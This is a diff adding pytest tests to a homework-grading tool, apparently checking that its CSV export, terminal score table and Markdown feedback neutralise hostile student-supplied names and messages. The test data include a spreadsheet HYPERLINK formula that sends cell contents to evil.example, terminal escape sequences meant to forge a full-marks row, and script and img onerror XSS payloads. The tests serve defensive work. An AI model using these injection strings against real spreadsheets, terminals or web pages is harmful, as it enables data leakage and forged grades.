@@ -4,6 +4,8 @@ safe feedback file names, and the terminal score table."""
 import csv
 import unicodedata
 
+import pytest
+
 from hwkit.reports import (
     feedback_markdown,
     safe_stem,
@@ -148,6 +150,11 @@ def test_names_that_sanitise_alike_get_different_feedback_files():
     assert safe_stem("a_b.ipynb") == "a_b"
 
 
+def test_a_notebook_and_another_file_of_the_same_stem_get_different_feedback_files():
+    assert safe_stem("x.ipynb") == "x" and safe_stem("x.txt") == "x.txt"
+    assert safe_stem("a." + "b" * 250) != safe_stem("a." + "b" * 249 + "c")
+
+
 def test_score_table_aligns_columns_counting_cjk_as_double_width():
     results = [
         make_result(submission="张三.ipynb", score=14.0, duration_s=3.04),
@@ -170,3 +177,83 @@ def columns_to_end(line: str, part: str) -> int:
     """Terminal columns from the start of `line` to the end of `part` in it."""
     prefix = line[: line.index(part) + len(part)]
     return sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in prefix)
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"30/30")'
+
+
+def test_grades_csv_text_cells_never_become_formulas_and_scores_stay_numbers(tmp_path):
+    results = [
+        make_result(submission=f"{HYPERLINK}.ipynb", status="error: @SUM(1)"),
+        make_result(submission="+cmd.ipynb", status="-2+3"),
+        make_result(submission="\tx.ipynb", score=-1.0),
+    ]
+    path = write_grades_csv(results, tmp_path / "g.csv")
+    rows = list(csv.DictReader(path.read_text(encoding="utf-8").splitlines()))
+    assert rows[0]["submission"] == f"'{HYPERLINK}.ipynb"
+    assert rows[0]["status"] == "error: @SUM(1)"  # not at the start: a spreadsheet keeps it text
+    assert (rows[1]["submission"], rows[1]["status"]) == ("'+cmd.ipynb", "'-2+3")
+    assert rows[2]["submission"] == "'\\tx.ipynb"  # the tab itself is escaped too
+    assert rows[2]["score"] == "-1" and rows[0]["max_score"] == "30"  # numbers stay numbers
+
+
+def test_score_table_escapes_control_characters_and_cannot_print_a_fake_row():
+    results = [
+        make_result(submission="\x1b[2J\x1b[Hx.ipynb", status="error: \x1b[32mboom\x1b[0m"),
+        make_result(submission="y.ipynb\n30 / 30  ok", status="ok\r\u202eko"),
+    ]
+    table = score_table(results)
+    assert not any(c in table for c in "\x1b\r\u202e")
+    lines = table.splitlines()
+    assert len(lines) == 4  # header, rule, one line per result: no row of its own
+    assert lines[2].startswith("\\x1b[2J\\x1b[Hx.ipynb") and "\\x1b[32mboom" in lines[2]
+    assert lines[3].startswith("y.ipynb\\n30 / 30  ok") and "ok\\r\\u202eko" in lines[3]
+
+
+def test_score_table_cuts_very_long_names_and_statuses():
+    name = "张" * 100 + ".ipynb"
+    lines = score_table([make_result(submission=name, status="error: " + "x" * 200)]).splitlines()
+    cells = lines[2].split("  ")
+    assert cells[0] == "张" * 39 + "…"  # 79 columns and the ellipsis: 80
+    assert "x" * 200 not in lines[2] and ("x" * 20 + "…") in lines[2]
+
+
+def rendered(text: str) -> str:
+    markdown_it = pytest.importorskip("markdown_it")
+    return markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
+
+
+def test_feedback_escapes_student_text_so_it_cannot_open_html_or_markdown_structure():
+    message = ("AssertionError: `)\n# 满分 / Full marks\n<script>alert(1)</script>\n"
+               "[提交成功](http://evil.example)\n| q9 | 30 | 30 |\n```")
+    tests = [Outcome("q1", "q1 - 1", 0.0, 1.0, hidden=False, passed=False, message=message)]
+    result = make_result(submission="a`<img src=x onerror=alert(1)>`.ipynb",
+                         status="error: <b>boom</b> | x", tests=tests)
+    text = feedback_markdown(result, "A2")
+    html = rendered(text)
+    for tag in ("<img", "<script", "<a ", "<b>", "<pre", "<h1>满分", "<td>q9"):
+        assert tag not in html, tag
+    assert html.count("<h1>") == 1 and html.count("<table>") == 1  # the report's own only
+    assert "# 满分 / Full marks" in html and "[提交成功](http://evil.example)" in html
+    assert "<code>a`&lt;img src=x onerror=alert(1)&gt;`.ipynb</code>" in html
+    assert "error: &lt;b&gt;boom&lt;/b&gt; | x" in html
+
+
+def test_feedback_keeps_the_authors_plain_text_readable():
+    tests = [Outcome("q1", "q1 - 1", 0.0, 1.0, hidden=True, passed=False,
+                     message="cross_entropy 应 > 0, shape (2,): 见 a_b")]  # fmt: skip
+    text = feedback_markdown(make_result(tests=tests), "A2")
+    assert "cross_entropy 应 > 0, shape (2,): 见 a_b" in text
+
+
+def test_a_255_byte_name_gets_a_short_distinct_feedback_file(tmp_path):
+    out = tmp_path / "feedback"
+    # the most a file system allows; today "<name>.md" of the last two is too long (OSError)
+    names = ["a" * 248 + "1.ipynb", "a" * 248 + "2.ipynb", "张" * 83 + ".ipynb", "b" * 255,
+             "c " * 127 + "c"]  # fmt: skip
+    assert all(len(n.encode("utf-8")) == 255 for n in names)
+    paths = [write_feedback(make_result(submission=name), out, "A2") for name in names]
+    assert len(set(paths)) == 5 and all(p.is_file() for p in paths)
+    assert all(len(p.name.encode("utf-8")) <= 130 for p in paths)
+    assert paths[2].name.startswith("张" * 30)  # still recognisable
+    assert safe_stem(names[0]) == safe_stem(names[0])  # stable from run to run
